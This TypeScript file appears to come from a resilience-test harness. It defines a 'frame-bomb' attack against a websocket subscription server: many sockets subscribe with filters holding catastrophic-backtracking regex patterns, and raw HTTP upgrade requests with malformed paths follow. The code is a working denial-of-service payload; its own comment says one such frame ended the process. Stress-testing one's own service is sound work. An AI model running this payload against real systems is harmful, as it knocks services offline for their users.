import { once } from 'node:events';
import { connect } from 'node:net';
import type { Attack, TargetFacts } from './attack.ts';
import { countWords, openSocket } from './open-socket.ts';

const sockets = 20;
const conditions = 25;
const program = `venue=match.${'(.?){900}'.repeat(45)}`;
const addresses = ['//', '///:', '/\\', 'http://['];

/** One such frame was the end of the process. */
export const frameBomb: Attack = {
  name: 'frame-bomb',
  says: `${sockets} visitors ask for ${conditions} patterns of 405 characters each, and upgrade nonsense`,
  keepsReads: { timesIdle: 3 },
  run: async (target) => {
    const honest = await openSocket(target, '127.0.0.2');
    honest.join('scores', ['sport=eq.NFL']);
    const replies: string[] = [];
    for (let count = 0; count < sockets; count += 1) {
      const socket = await openSocket(target);
      socket.join('bomb', Array<string>(conditions).fill(program));
      replies.push(...(await socket.waitForReplies(1)));
      socket.webSocket.terminate();
    }
    for (const address of addresses) await upgrade(target, address);
    if (honest.webSocket.readyState !== honest.webSocket.OPEN)
      throw new Error('the honest socket ended');
    honest.webSocket.terminate();
    return { 'replies to joins': countWords(replies) };
  },
};

async function upgrade({ url }: TargetFacts, address: string): Promise<void> {
  const { hostname, port } = new URL(url);
  const stream = connect({ host: hostname, port: Number(port) });
  stream.on('error', () => {});
  stream.resume();
  stream.write(
    `GET ${address} HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\r\n`,
  );
  await once(stream, 'close');
}
